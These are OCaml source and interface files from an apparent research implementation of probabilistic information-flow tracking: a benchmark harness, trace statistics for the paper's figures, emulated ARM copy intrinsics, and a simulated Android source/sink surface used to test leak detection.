  let module Snapshot = Pift_service.Snapshot in
  let recorded = Lazy.force bench_trace in
  let policy = Policy.default in
  let tenants = 16 and shards = 4 in
  let events_per_tenant = Trace.length recorded.Recorded.trace in
  let items_per_tenant =
    events_per_tenant + Array.length recorded.Recorded.markers
  in
  let mk_sources () =
    List.init tenants (fun i ->
        Ingest.of_recorded ~pid:(Ingest.tenant_pid i) recorded)
  in
  let time f =
    let t0 = Unix.gettimeofday () in
    let v = f () in
    (v, Unix.gettimeofday () -. t0)
  in
  let best_of n f =
    List.fold_left
      (fun best _ -> min best (snd (time f)))
      infinity
      (List.init n Fun.id)
  in
  let tenant_matches (ts : Admin.tenant_snapshot)
      (ref_ts : Admin.tenant_snapshot) =
    ts.Admin.ts_verdicts = ref_ts.Admin.ts_verdicts
    && ts.Admin.ts_stats = ref_ts.Admin.ts_stats
    && ts.Admin.ts_tainted_bytes = ref_ts.Admin.ts_tainted_bytes
    && ts.Admin.ts_ranges = ref_ts.Admin.ts_ranges
  in
  let tmp = Filename.temp_file "pift_bench" ".piftsnap" in
  let mid = Filename.temp_file "pift_bench_mid" ".piftsnap" in
  Fun.protect
    ~finally:(fun () ->
      List.iter
        (fun p -> try Sys.remove p with Sys_error _ -> ())
        [ tmp; mid ])
    (fun () ->
      (* uninterrupted run: the reference state, and the subject of the
         snapshot/restore latency measurements *)
      let reference, snapshot_s, snapshot_bytes, restore_s =
        Engine.with_engine ~shards ~policy ~with_origins:true (fun eng ->
            Ingest.run eng (mk_sources ());
            let reference =
              List.init tenants (fun i ->
                  Option.get
                    (Admin.snapshot_tenant eng ~pid:(Ingest.tenant_pid i)))
            in
            let snapshot_s = best_of 5 (fun () -> Admin.save_snapshot eng tmp) in
            let snapshot_bytes = (Unix.stat tmp).Unix.st_size in
            let restore_s =
              best_of 3 (fun () ->
                  let snap = Snapshot.load tmp in
                  Engine.with_engine ~shards ~policy ~with_origins:true
                    (fun e2 -> Snapshot.restore_tenants e2 snap))
            in
            (reference, snapshot_s, snapshot_bytes, restore_s))
      in
      (* capture a mid-stream snapshot (first segment boundary at half
         the items), then restore it and resume to completion *)
      Engine.with_engine ~shards ~policy ~with_origins:true (fun eng ->
          let sources = mk_sources () in
          let saved = ref false in
          let on_idle () =
            if not !saved then begin
              saved := true;
              Admin.save_snapshot
                ~sources:(Snapshot.source_entries sources)
                eng mid
            end
          in
          Ingest.run ~segment:(tenants * items_per_tenant / 2) ~on_idle eng
            sources);
      let snap = Snapshot.load mid in
      let snap_items =
        List.fold_left
          (fun acc (se : Snapshot.source_entry) -> acc + se.Snapshot.se_cursor)
          0 snap.Snapshot.sources
      in
      let resumed_items = (tenants * items_per_tenant) - snap_items in
      let resume_ok, resume_s =
        Engine.with_engine ~shards ~policy ~with_origins:true (fun eng ->
            Snapshot.restore_tenants eng snap;
            let sources = mk_sources () in
            List.iter
              (fun (s : Ingest.source) ->
                let se =
                  List.find
                    (fun (se : Snapshot.source_entry) ->
                      se.Snapshot.se_pid = s.Ingest.src_pid)
                    snap.Snapshot.sources
                in
                Ingest.skip s se.Snapshot.se_cursor)
              sources;
            let (), s = time (fun () -> Ingest.run eng sources) in
            let ok =
              List.for_all
                (fun i ->
                  match
                    Admin.snapshot_tenant eng ~pid:(Ingest.tenant_pid i)
                  with
                  | None -> false
                  | Some ts -> tenant_matches ts (List.nth reference i))
                (List.init tenants Fun.id)
            in
            (ok, s))
      in
      let resume_rate =
        if resume_s > 0. then float_of_int resumed_items /. resume_s else 0.
      in
      let json =
        Json.Obj
          [
            ("bench", Json.String "snapshot");
            ("tenants", Json.Int tenants);
            ("shards", Json.Int shards);
            ("events_per_tenant", Json.Int events_per_tenant);
            ("items_total", Json.Int (tenants * items_per_tenant));
            ("snapshot_seconds", Json.Float snapshot_s);
            ("snapshot_bytes", Json.Int snapshot_bytes);
            ("restore_seconds", Json.Float restore_s);
            ("resume_items", Json.Int resumed_items);
            ("resume_seconds", Json.Float resume_s);
            ("resume_items_per_sec", Json.Float resume_rate);
            ("resumed_state_identical", Json.Bool resume_ok);
          ]
      in
      let oc = open_out "BENCH_snapshot.json" in
      output_string oc (Json.to_string json);
      output_char oc '\n';
      close_out oc;
      Printf.printf
        "snapshot: %d tenants, write %.1fms (%d bytes), restore %.1fms, \
         resume %d items at %.0f items/s\n"
        tenants (snapshot_s *. 1000.) snapshot_bytes (restore_s *. 1000.)
        resumed_items resume_rate;
      Printf.printf "wrote BENCH_snapshot.json (%s)\n"
        (if resume_ok then "resumed state identical"
         else "RESUMED STATE DIVERGED");
      if not resume_ok then exit 1)

let () =
  (* `bench store` / `bench prov` run only that stage — the cheap CI
     artifacts — while a bare `bench` runs the whole harness. *)
  if Array.length Sys.argv > 1 && Sys.argv.(1) = "store" then
    write_store_bench ()
  else if Array.length Sys.argv > 1 && Sys.argv.(1) = "prov" then
    write_prov_bench ()
  else if Array.length Sys.argv > 1 && Sys.argv.(1) = "traceio" then
    write_traceio_bench ()
  else if Array.length Sys.argv > 1 && Sys.argv.(1) = "telemetry" then
    write_telemetry_bench ()
  else if Array.length Sys.argv > 1 && Sys.argv.(1) = "service" then
    write_service_bench ()
  else if Array.length Sys.argv > 1 && Sys.argv.(1) = "snapshot" then
    write_snapshot_bench ()
  else begin
    run_microbenchmarks ();
    write_obs_snapshot ();
    write_par_bench ();
    write_trace_bench ();
    write_store_bench ();
    write_traceio_bench ();
    write_telemetry_bench ();
    write_prov_bench ();
    write_service_bench ();
    write_snapshot_bench ();
    print_endline
      "######## paper reproduction (every table & figure) ########";
    Pift_eval.Experiments.run_all ~jobs:(Pift_par.Pool.default_jobs ())
      Format.std_formatter;
    Format.print_flush ()
  end
