(** Trace statistics from the paper's empirical study (§2, Fig. 2) and
    micro-benchmarks (§5.1, Figs. 12–13).

    All distances are measured in numbers of instructions on the
    per-process instruction counter, matching Algorithm 1's window
    arithmetic: a store at counter [k_s] is within the window opened by a
    load at [k_l] iff [k_s - k_l <= ni]. *)

val load_store_distance : Trace.t -> Pift_util.Histogram.t
(** Fig. 2a: for every store, the distance to the most recent load of the
    same process.  Stores with no preceding load are skipped. *)

val stores_between_loads : Trace.t -> Pift_util.Histogram.t
(** Fig. 2b: for every pair of consecutive loads, the number of stores
    executed between them. *)

val load_load_distance : Trace.t -> Pift_util.Histogram.t
(** Fig. 2c: distance between consecutive loads of the same process. *)

val stores_in_window : ni:int -> Trace.t -> Pift_util.Histogram.t
(** Fig. 12: for every load, the number of stores within the next [ni]
    instructions of the same process. *)

val kth_store_distance : ni:int -> kth:int -> Trace.t -> float option
(** Fig. 13: mean distance from a load to the [kth] store (1-based) inside
    its window of size [ni], over the loads that have at least [kth]
    stores in the window.  [None] when no load qualifies. *)
