module Range = Pift_util.Range

type access = Load of Range.t | Store of Range.t | Other

type t = {
  seq : int;
  k : int;
  pid : int;
  insn : Pift_arm.Insn.t;
  access : access;
}

let is_load e = match e.access with Load _ -> true | Store _ | Other -> false
let is_store e = match e.access with Store _ -> true | Load _ | Other -> false

let range e =
  match e.access with Load r | Store r -> Some r | Other -> None

let pp ppf e =
  let pp_access ppf = function
    | Load r -> Format.fprintf ppf " ; load %a" Range.pp r
    | Store r -> Format.fprintf ppf " ; store %a" Range.pp r
    | Other -> ()
  in
  Format.fprintf ppf "[%d:%d] pid=%d %a%a" e.seq e.k e.pid Pift_arm.Insn.pp
    e.insn pp_access e.access
