type t = {
  mutable events : Event.t array;
  mutable len : int;
  mutable loads : int;
  mutable stores : int;
}

let dummy =
  {
    Event.seq = 0;
    k = 0;
    pid = 0;
    insn = Pift_arm.Insn.Nop;
    access = Event.Other;
  }

let create () = { events = Array.make 1024 dummy; len = 0; loads = 0; stores = 0 }

let add t e =
  if t.len = Array.length t.events then
    t.events <- Array.append t.events (Array.make t.len dummy);
  t.events.(t.len) <- e;
  t.len <- t.len + 1;
  if Event.is_load e then t.loads <- t.loads + 1
  else if Event.is_store e then t.stores <- t.stores + 1

let sink t = add t
let length t = t.len

let get t i =
  if i < 0 || i >= t.len then invalid_arg "Trace.get: out of bounds";
  t.events.(i)

let iter f t =
  for i = 0 to t.len - 1 do
    f t.events.(i)
  done

let replay t consumers =
  iter (fun e -> List.iter (fun c -> c e) consumers) t

let loads t = t.loads
let stores t = t.stores

let pids t =
  let module Iset = Set.Make (Int) in
  let set = ref Iset.empty in
  iter (fun e -> set := Iset.add e.Event.pid !set) t;
  Iset.elements !set
