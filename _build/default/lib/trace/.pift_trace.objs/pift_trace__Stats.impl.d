lib/trace/stats.ml: Array Event Hashtbl List Pift_util Trace
