lib/trace/event.mli: Format Pift_arm Pift_util
