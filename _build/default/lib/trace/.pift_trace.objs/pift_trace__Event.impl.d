lib/trace/event.ml: Format Pift_arm Pift_util
