lib/trace/trace.ml: Array Event Int List Pift_arm Set
