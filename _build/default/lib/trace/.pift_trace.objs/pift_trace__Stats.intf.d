lib/trace/stats.mli: Pift_util Trace
