(** One executed instruction, as observed by the PIFT front-end logic.

    This is the paper's Fig. 5 interface between CPU and PIFT hardware
    module: for every instruction the front end supplies the
    process-specific ID, the process-specific instruction counter, the
    access type, and the resolved address range.  We additionally carry the
    instruction itself so the full-DIFT baseline (which needs register
    semantics) can consume the same stream. *)

type access =
  | Load of Pift_util.Range.t
  | Store of Pift_util.Range.t
  | Other

type t = {
  seq : int;  (** global instruction sequence number *)
  k : int;  (** per-process instruction counter (Algorithm 1's [k]) *)
  pid : int;
  insn : Pift_arm.Insn.t;
  access : access;
}

val is_load : t -> bool
val is_store : t -> bool

val range : t -> Pift_util.Range.t option
(** Address range of a memory access, [None] for [Other]. *)

val pp : Format.formatter -> t -> unit
