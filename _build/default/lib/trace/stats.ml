module Histogram = Pift_util.Histogram

(* Per-pid folding: [f state event] where state is created per process on
   first sight. *)
let fold_per_pid ~init ~f trace =
  let states = Hashtbl.create 4 in
  let visit e =
    let pid = e.Event.pid in
    let state =
      match Hashtbl.find_opt states pid with
      | Some s -> s
      | None ->
          let s = ref (init ()) in
          Hashtbl.add states pid s;
          s
    in
    state := f !state e
  in
  Trace.iter visit trace

let load_store_distance trace =
  let h = Histogram.create () in
  let f last_load e =
    match e.Event.access with
    | Event.Load _ -> Some e.Event.k
    | Event.Store _ ->
        (match last_load with
        | Some k_l -> Histogram.add h (e.Event.k - k_l)
        | None -> ());
        last_load
    | Event.Other -> last_load
  in
  fold_per_pid ~init:(fun () -> None) ~f trace;
  h

let stores_between_loads trace =
  let h = Histogram.create () in
  let f (seen_load, count) e =
    match e.Event.access with
    | Event.Load _ ->
        if seen_load then Histogram.add h count;
        (true, 0)
    | Event.Store _ -> (seen_load, count + 1)
    | Event.Other -> (seen_load, count)
  in
  fold_per_pid ~init:(fun () -> (false, 0)) ~f trace;
  h

let load_load_distance trace =
  let h = Histogram.create () in
  let f last_load e =
    match e.Event.access with
    | Event.Load _ ->
        (match last_load with
        | Some k_l -> Histogram.add h (e.Event.k - k_l)
        | None -> ());
        Some e.Event.k
    | Event.Store _ | Event.Other -> last_load
  in
  fold_per_pid ~init:(fun () -> None) ~f trace;
  h

(* Per-pid sorted arrays of load and store counters, for window lookups. *)
let memory_counters trace =
  let tbl = Hashtbl.create 4 in
  let visit e =
    let entry =
      match Hashtbl.find_opt tbl e.Event.pid with
      | Some x -> x
      | None ->
          let x = (ref [], ref []) in
          Hashtbl.add tbl e.Event.pid x;
          x
    in
    let loads, stores = entry in
    match e.Event.access with
    | Event.Load _ -> loads := e.Event.k :: !loads
    | Event.Store _ -> stores := e.Event.k :: !stores
    | Event.Other -> ()
  in
  Trace.iter visit trace;
  Hashtbl.fold
    (fun _pid (loads, stores) acc ->
      let arr l = Array.of_list (List.rev !l) in
      (arr loads, arr stores) :: acc)
    tbl []

(* Index of the first element of sorted [a] strictly greater than [v]. *)
let upper_bound a v =
  let lo = ref 0 and hi = ref (Array.length a) in
  while !lo < !hi do
    let mid = (!lo + !hi) / 2 in
    if a.(mid) <= v then lo := mid + 1 else hi := mid
  done;
  !lo

let stores_in_window ~ni trace =
  if ni <= 0 then invalid_arg "Stats.stores_in_window: non-positive ni";
  let h = Histogram.create () in
  let per_pid (loads, stores) =
    let count_for k_l =
      let first = upper_bound stores k_l in
      let after = upper_bound stores (k_l + ni) in
      Histogram.add h (after - first)
    in
    Array.iter count_for loads
  in
  List.iter per_pid (memory_counters trace);
  h

let kth_store_distance ~ni ~kth trace =
  if ni <= 0 then invalid_arg "Stats.kth_store_distance: non-positive ni";
  if kth <= 0 then invalid_arg "Stats.kth_store_distance: non-positive kth";
  let sum = ref 0 and n = ref 0 in
  let per_pid (loads, stores) =
    let measure k_l =
      let first = upper_bound stores k_l in
      let idx = first + kth - 1 in
      if idx < Array.length stores && stores.(idx) - k_l <= ni then begin
        sum := !sum + (stores.(idx) - k_l);
        incr n
      end
    in
    Array.iter measure loads
  in
  List.iter per_pid (memory_counters trace);
  if !n = 0 then None else Some (float_of_int !sum /. float_of_int !n)
