(** Recorded instruction streams.

    A trace is recorded once per workload execution and replayed into any
    number of trackers or statistics passes (the paper records gem5 traces
    and feeds them to the PIFT analysis code offline, §5). *)

type t

val create : unit -> t

val add : t -> Event.t -> unit

val sink : t -> Event.t -> unit
(** [sink t] is [add t] in the shape expected by event producers. *)

val length : t -> int
val get : t -> int -> Event.t

val iter : (Event.t -> unit) -> t -> unit
(** In recording order. *)

val replay : t -> (Event.t -> unit) list -> unit
(** Feed every event to every consumer, in order. *)

val loads : t -> int
(** Number of load events. *)

val stores : t -> int
(** Number of store events. *)

val pids : t -> int list
(** Distinct process IDs, sorted. *)
