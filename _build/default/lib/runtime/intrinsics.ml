module Cpu = Pift_machine.Cpu
module Asm = Pift_arm.Asm
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
module Cond = Pift_arm.Cond
open Insn

type cpu = Cpu.t

(* Register conventions within intrinsics: r0 dst / primary pointer,
   r1 src, r2 auxiliary pointer, r3 element counter, r4 source offset,
   r5 element count, r6 transfer data, r8/r9 scratch. *)

let imm n = Imm n
let reg r = Reg r

(* A copy loop: [body cpu asm] emits load(+work)+store for one element;
   offsets are advanced by [src_step]/[dst_step] in r4/r9. *)
let copy_loop cpu ~dst ~src ~count ~src_step ~dst_step ~body =
  let a = Asm.create () in
  Asm.emit a (Mov (Reg.R3, imm 0));
  Asm.emit a (Mov (Reg.R4, imm 0));
  Asm.emit a (Mov (Reg.R9, imm 0));
  Asm.label a "loop";
  Asm.emit a (Cmp (Reg.R3, reg Reg.R5));
  Asm.branch a Cond.Ge "end";
  body a;
  Asm.emit a (Alu (Add, false, Reg.R3, Reg.R3, imm 1));
  Asm.emit a (Alu (Add, false, Reg.R4, Reg.R4, imm src_step));
  Asm.emit a (Alu (Add, false, Reg.R9, Reg.R9, imm dst_step));
  Asm.branch a Cond.Always "loop";
  Asm.label a "end";
  Asm.ret a;
  Cpu.set cpu Reg.R0 dst;
  Cpu.set cpu Reg.R1 src;
  Cpu.set cpu Reg.R5 count;
  Cpu.run cpu (Asm.assemble a)

let char_copy cpu ~dst ~src ~chars =
  let body a =
    Asm.emit_all a
      [
        Ldr (Half, Reg.R6, Offset (Reg.R1, reg Reg.R4));
        Alu (Add, false, Reg.R8, Reg.R8, imm 1);
        Str (Half, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src ~count:chars ~src_step:2 ~dst_step:2 ~body

let char_copy_with_counter cpu ~dst ~src ~chars ~counter_addr =
  Cpu.set cpu Reg.R2 counter_addr;
  let body a =
    Asm.emit_all a
      [
        Ldr (Half, Reg.R6, Offset (Reg.R1, reg Reg.R4));
        Alu (Add, false, Reg.R8, Reg.R3, imm 1);
        Str (Word, Reg.R8, Offset (Reg.R2, imm 0));
        Str (Half, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src ~count:chars ~src_step:2 ~dst_step:2 ~body

(* Shared body of the logged copies: char load, bounds-check load of the
   source length header (r11 points at it; array headers are never
   stored to, so this load is always clean), char store, progress-counter
   store. *)
let logged_body a =
  Asm.emit_all a
    [
      Ldr (Half, Reg.R6, Offset (Reg.R1, reg Reg.R4));
      Ldr (Word, Reg.R10, Offset (Reg.R11, imm 0));
      Alu (Add, false, Reg.R8, Reg.R3, imm 1);
      Str (Half, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      Str (Word, Reg.R8, Offset (Reg.R2, imm 0));
    ]

let char_copy_logged ?header cpu ~dst ~src ~chars ~counter_addr =
  Cpu.set cpu Reg.R2 counter_addr;
  Cpu.set cpu Reg.R11 (match header with Some h -> h | None -> src - 4);
  copy_loop cpu ~dst ~src ~count:chars ~src_step:2 ~dst_step:2
    ~body:logged_body

let char_deinterleave cpu ~dst ~src ~chars ~counter_addr =
  if chars land 1 <> 0 then
    invalid_arg "Intrinsics.char_deinterleave: odd length";
  let half = chars / 2 in
  Cpu.set cpu Reg.R2 counter_addr;
  Cpu.set cpu Reg.R11 (src - 4);
  (* even code units into the first half... *)
  copy_loop cpu ~dst ~src ~count:half ~src_step:4 ~dst_step:2
    ~body:logged_body;
  Cpu.set cpu Reg.R2 counter_addr;
  Cpu.set cpu Reg.R11 (src - 4);
  (* ...odd code units into the second half. *)
  copy_loop cpu ~dst:(dst + (2 * half)) ~src:(src + 2) ~count:half
    ~src_step:4 ~dst_step:2 ~body:logged_body

let base64_encode cpu ~dst ~src ~groups ~table =
  let a = Asm.create () in
  (* r0 dst, r1 src, r2 table, r3 group counter, r4 src offset,
     r9 dst offset, r5 group count, r6/r10/r11/r12 data *)
  Asm.emit a (Mov (Reg.R3, imm 0));
  Asm.emit a (Mov (Reg.R4, imm 0));
  Asm.emit a (Mov (Reg.R9, imm 0));
  Asm.label a "group";
  Asm.emit a (Cmp (Reg.R3, reg Reg.R5));
  Asm.branch a Cond.Ge "end";
  Asm.emit_all a
    [
      Ldr (Byte, Reg.R6, Offset (Reg.R1, reg Reg.R4));
      Alu (Add, false, Reg.R4, Reg.R4, imm 1);
      Ldr (Byte, Reg.R10, Offset (Reg.R1, reg Reg.R4));
      Alu (Add, false, Reg.R4, Reg.R4, imm 1);
      Ldr (Byte, Reg.R11, Offset (Reg.R1, reg Reg.R4));
      Alu (Add, false, Reg.R4, Reg.R4, imm 1);
      (* sextet 0: b0 >> 2 *)
      Alu (Lsr_op, false, Reg.R12, Reg.R6, imm 2);
      Ldr (Byte, Reg.R12, Offset (Reg.R2, reg Reg.R12));
      Str (Half, Reg.R12, Offset (Reg.R0, reg Reg.R9));
      Alu (Add, false, Reg.R9, Reg.R9, imm 2);
      (* sextet 1: ((b0 & 3) << 4) | (b1 >> 4) *)
      Alu (And, false, Reg.R6, Reg.R6, imm 3);
      Alu (Lsl_op, false, Reg.R6, Reg.R6, imm 4);
      Alu (Lsr_op, false, Reg.R12, Reg.R10, imm 4);
      Alu (Orr, false, Reg.R12, Reg.R12, reg Reg.R6);
      Ldr (Byte, Reg.R12, Offset (Reg.R2, reg Reg.R12));
      Str (Half, Reg.R12, Offset (Reg.R0, reg Reg.R9));
      Alu (Add, false, Reg.R9, Reg.R9, imm 2);
      (* sextet 2: ((b1 & 15) << 2) | (b2 >> 6) *)
      Alu (And, false, Reg.R10, Reg.R10, imm 15);
      Alu (Lsl_op, false, Reg.R10, Reg.R10, imm 2);
      Alu (Lsr_op, false, Reg.R12, Reg.R11, imm 6);
      Alu (Orr, false, Reg.R12, Reg.R12, reg Reg.R10);
      Ldr (Byte, Reg.R12, Offset (Reg.R2, reg Reg.R12));
      Str (Half, Reg.R12, Offset (Reg.R0, reg Reg.R9));
      Alu (Add, false, Reg.R9, Reg.R9, imm 2);
      (* sextet 3: b2 & 63 *)
      Alu (And, false, Reg.R12, Reg.R11, imm 63);
      Ldr (Byte, Reg.R12, Offset (Reg.R2, reg Reg.R12));
      Str (Half, Reg.R12, Offset (Reg.R0, reg Reg.R9));
      Alu (Add, false, Reg.R9, Reg.R9, imm 2);
      Alu (Add, false, Reg.R3, Reg.R3, imm 1);
    ];
  Asm.branch a Cond.Always "group";
  Asm.label a "end";
  Asm.ret a;
  Cpu.set cpu Reg.R0 dst;
  Cpu.set cpu Reg.R1 src;
  Cpu.set cpu Reg.R2 table;
  Cpu.set cpu Reg.R5 groups;
  Cpu.run cpu (Asm.assemble a)

let fill_chars cpu ~dst ~chars ~value =
  (* r11 points at the destination length header: the per-iteration
     bounds-check load (always clean, headers are never stored to). *)
  Cpu.set cpu Reg.R11 (dst - 4);
  let body a =
    Asm.emit_all a
      [
        Mov (Reg.R6, imm value);
        Ldr (Word, Reg.R10, Offset (Reg.R11, imm 0));
        Str (Half, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src:0 ~count:chars ~src_step:0 ~dst_step:2 ~body

let char_copy_transform cpu ~dst ~src ~chars ~xor =
  let body a =
    Asm.emit_all a
      [
        Ldr (Half, Reg.R6, Offset (Reg.R1, reg Reg.R4));
        Alu (Eor, false, Reg.R6, Reg.R6, imm xor);
        Str (Half, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src ~count:chars ~src_step:2 ~dst_step:2 ~body

let char_to_byte_copy cpu ~dst ~src ~chars =
  let body a =
    Asm.emit_all a
      [
        Ldr (Half, Reg.R6, Offset (Reg.R1, reg Reg.R4));
        Alu (And, false, Reg.R6, Reg.R6, imm 0xFF);
        Str (Byte, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src ~count:chars ~src_step:2 ~dst_step:1 ~body

let byte_to_char_copy cpu ~dst ~src ~bytes =
  let body a =
    Asm.emit_all a
      [
        Ldr (Byte, Reg.R6, Offset (Reg.R1, reg Reg.R4));
        Alu (And, false, Reg.R6, Reg.R6, imm 0xFF);
        Str (Half, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src ~count:bytes ~src_step:1 ~dst_step:2 ~body

let word_copy cpu ~dst ~src ~words =
  let body a =
    Asm.emit_all a
      [
        Ldr (Word, Reg.R6, Offset (Reg.R1, reg Reg.R4));
        Alu (Add, false, Reg.R8, Reg.R8, imm 1);
        Str (Word, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src ~count:words ~src_step:4 ~dst_step:4 ~body

let itoa_first_store_distance = 10

(* Decimal conversion.  The value is *loaded* (possibly from a tainted
   slot); the first digit store then follows after exactly
   [itoa_first_store_distance] instructions — sign handling, constant
   setup and one divide round — reproducing the long-distance
   "runtime ABI helper" behaviour the paper observes for location data. *)
let itoa cpu ~value_addr ~buf =
  let a = Asm.create () in
  Asm.emit_all a
    [
      Ldr (Word, Reg.R1, Offset (Reg.R0, imm 0));
      (* +1 *) Mov (Reg.R2, imm 10);
      (* +2 *) Mov (Reg.R4, imm 0);
      (* +3 *) Cmp (Reg.R1, imm 0);
      (* +4 *) Mov (Reg.R9, imm 0);
    ];
  Asm.label a "digit";
  Asm.emit_all a
    [
      (* +5 *) Udiv (Reg.R3, Reg.R1, Reg.R2);
      (* +6 *) Alu (Mul, false, Reg.R6, Reg.R3, reg Reg.R2);
      (* +7 *) Alu (Sub, false, Reg.R8, Reg.R1, reg Reg.R6);
      (* +8 *) Alu (Add, false, Reg.R8, Reg.R8, imm 48);
      (* +9 *) Alu (And, false, Reg.R8, Reg.R8, imm 0xFF);
      (* +10 *) Str (Byte, Reg.R8, Offset (Reg.R5, reg Reg.R4));
      Alu (Add, false, Reg.R4, Reg.R4, imm 1);
      Mov (Reg.R1, reg Reg.R3);
      Cmp (Reg.R1, imm 0);
    ];
  Asm.branch a Cond.Ne "digit";
  Asm.ret a;
  Cpu.set cpu Reg.R0 value_addr;
  Cpu.set cpu Reg.R5 buf;
  Cpu.run cpu (Asm.assemble a);
  Cpu.get cpu Reg.R4

let reverse_bytes_to_chars cpu ~dst ~src ~count =
  let a = Asm.create () in
  (* r1 walks src from the last byte down; r0 walks dst up. *)
  Asm.emit a (Mov (Reg.R3, imm 0));
  Asm.label a "loop";
  Asm.emit a (Cmp (Reg.R3, reg Reg.R5));
  Asm.branch a Cond.Ge "end";
  Asm.emit_all a
    [
      Ldr (Byte, Reg.R6, Post (Reg.R1, imm (-1)));
      Alu (Add, false, Reg.R3, Reg.R3, imm 1);
      Str (Half, Reg.R6, Post (Reg.R0, imm 2));
    ];
  Asm.branch a Cond.Always "loop";
  Asm.label a "end";
  Asm.ret a;
  Cpu.set cpu Reg.R0 dst;
  Cpu.set cpu Reg.R1 (src + count - 1);
  Cpu.set cpu Reg.R5 count;
  Cpu.run cpu (Asm.assemble a)

let byte_copy cpu ~dst ~src ~bytes =
  let body a =
    Asm.emit_all a
      [
        Ldr (Byte, Reg.R6, Offset (Reg.R1, reg Reg.R4));
        Alu (Add, false, Reg.R8, Reg.R8, imm 1);
        Str (Byte, Reg.R6, Offset (Reg.R0, reg Reg.R9));
      ]
  in
  copy_loop cpu ~dst ~src ~count:bytes ~src_step:1 ~dst_step:1 ~body

let scalar_move cpu ~dst ~src ~src_width ~dst_width ~pad =
  if pad < 0 then invalid_arg "Intrinsics.scalar_move: negative pad";
  let a = Asm.create () in
  Asm.emit a (Ldr (src_width, Reg.R6, Offset (Reg.R1, imm 0)));
  for _ = 1 to pad do
    Asm.emit a (Alu (Add, false, Reg.R9, Reg.R9, imm 1))
  done;
  Asm.emit a (Str (dst_width, Reg.R6, Offset (Reg.R0, imm 0)));
  Asm.ret a;
  Cpu.set cpu Reg.R0 dst;
  Cpu.set cpu Reg.R1 src;
  Cpu.run cpu (Asm.assemble a)

let increment_word cpu ~addr =
  let a = Asm.create () in
  Asm.emit_all a
    [
      Ldr (Word, Reg.R6, Offset (Reg.R0, imm 0));
      Alu (Add, false, Reg.R6, Reg.R6, imm 1);
      Str (Word, Reg.R6, Offset (Reg.R0, imm 0));
    ];
  Asm.ret a;
  Cpu.set cpu Reg.R0 addr;
  Cpu.run cpu (Asm.assemble a)

let load_store_word cpu ~dst ~src ~pad =
  if pad < 0 then invalid_arg "Intrinsics.load_store_word: negative pad";
  let a = Asm.create () in
  Asm.emit a (Ldr (Word, Reg.R6, Offset (Reg.R1, imm 0)));
  for _ = 1 to pad do
    Asm.emit a (Alu (Add, false, Reg.R9, Reg.R9, imm 1))
  done;
  Asm.emit a (Str (Word, Reg.R6, Offset (Reg.R0, imm 0)));
  Asm.ret a;
  Cpu.set cpu Reg.R0 dst;
  Cpu.set cpu Reg.R1 src;
  Cpu.run cpu (Asm.assemble a)

let store_word cpu ~addr ~value =
  let a = Asm.create () in
  Asm.emit a (Mov (Reg.R6, imm value));
  Asm.emit a (Str (Word, Reg.R6, Offset (Reg.R0, imm 0)));
  Asm.ret a;
  Cpu.set cpu Reg.R0 addr;
  Cpu.run cpu (Asm.assemble a)
