let size = 64
let base ~pid = Pift_machine.Layout.scratch_base + (pid * size)
let retval_offset = 0
let exception_offset = 8

let retval_range ~pid = Pift_util.Range.of_len (base ~pid + retval_offset) 4
