(** The Android-framework surface: sensitive sources, exfiltration sinks,
    and the String / StringBuilder / array natives whose copy loops carry
    the actual data flows.

    Every function has the {!Env.native} shape and is registered in the
    VM's native-method table under its Java-flavoured name (see
    {!registry}).  Sources register their data's address ranges with the
    {!Manager}; sinks pass the outgoing ranges down for a taint check —
    the DroidBench sources (device ID, serial, phone number, location) and
    sinks (SMS, HTTP, log) of §5. *)

val imei : string
val serial : string
val phone_number : string
val latitude_ud : int
(** Latitude in positive microdegrees (primitive-typed source; its
    decimal conversion exercises the long-distance itoa path). *)

val longitude_ud : int

(* Sources *)

val get_device_id : Env.native
val get_sim_serial : Env.native
val get_line1_number : Env.native
val get_latitude : Env.native
val get_longitude : Env.native

(* Sinks *)

val send_text_message : Env.native
(** [args = \[|dest; msg|\]] — checks the message text. *)

val http_post : Env.native
(** [args = \[|url; body|\]] — checks both URL and body strings. *)

val log_i : Env.native
(** [args = \[|tag; msg|\]]. *)

val write_bytes_sink : Env.native
(** [args = \[|byte_array|\]] — an output-stream write (counted as an
    [http] sink; DroidBench network leaks go through streams). *)

(* Strings *)

val string_concat : Env.native
val string_value_of_int : Env.native
val string_char_at : Env.native
val string_substring : Env.native
(** [args = \[|s; start; len|\]]. *)

val string_to_upper : Env.native
val string_get_bytes : Env.native
val string_from_bytes : Env.native

val string_get_chars : Env.native
(** [args = \[|s; char_array|\]] — copy the string's chars into an array
    ([String.getChars]). *)

val string_from_chars : Env.native
(** [args = \[|char_array|\]] — new string from a char array. *)

val string_length : Env.native

val base64_encode : Env.native
(** [args = \[|byte_array|\]] — Base64 via an alphabet table
    ({!Intrinsics.base64_encode}): an index-based implicit flow that
    exact DIFT misses but PIFT's temporal locality catches. *)

(* StringBuilder: object with fields {0: char\[\] ref; 1: length}. *)

val sb_new : Env.native
val sb_append : Env.native
val sb_append_char : Env.native
val sb_append_int : Env.native
val sb_to_string : Env.native

(* Arrays *)

val array_copy : Env.native
(** [System.arraycopy]: [args = \[|src; srcPos; dst; dstPos; len|\]];
    element width follows the source array's class. *)

val registry : (string * Env.native) list
(** All natives under their method names, e.g.
    ["TelephonyManager.getDeviceId"]. *)
