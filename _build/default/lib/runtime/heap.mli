(** Bump-pointer heap allocator and object layout.

    Objects are laid out as [class_id] word at offset 0 followed by 4-byte
    fields.  Allocation and header initialisation are performed directly
    by the runtime (no instruction events) — in the real system they
    happen in the allocator, whose stores are of non-sensitive metadata;
    all *data* movement into and out of objects goes through executed
    native fragments or bytecode. *)

type t

val create : Pift_machine.Memory.t -> t
val memory : t -> Pift_machine.Memory.t

val alloc : t -> int -> int
(** [alloc t bytes] returns the address of a fresh 8-byte-aligned block.
